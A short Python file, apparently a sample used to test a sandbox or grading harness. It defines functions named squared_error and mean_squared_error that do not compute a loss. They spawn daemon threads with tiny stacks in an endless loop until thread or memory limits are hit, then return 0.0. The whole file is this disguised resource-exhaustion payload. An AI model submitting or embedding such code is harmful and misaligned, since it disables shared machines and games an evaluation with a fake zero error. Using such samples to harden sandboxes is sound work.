"""Starts thousands of threads with the smallest stacks, as many as a user may have."""

# status: failed or timeout or crashed

import threading

FOREVER = threading.Event()
threading.stack_size(32768)


def squared_error(pred, goal_pred):
    while True:
        try:
            threading.Thread(target=FOREVER.wait, daemon=True).start()
        except (RuntimeError, MemoryError):
            return 0.0


mean_squared_error = squared_error
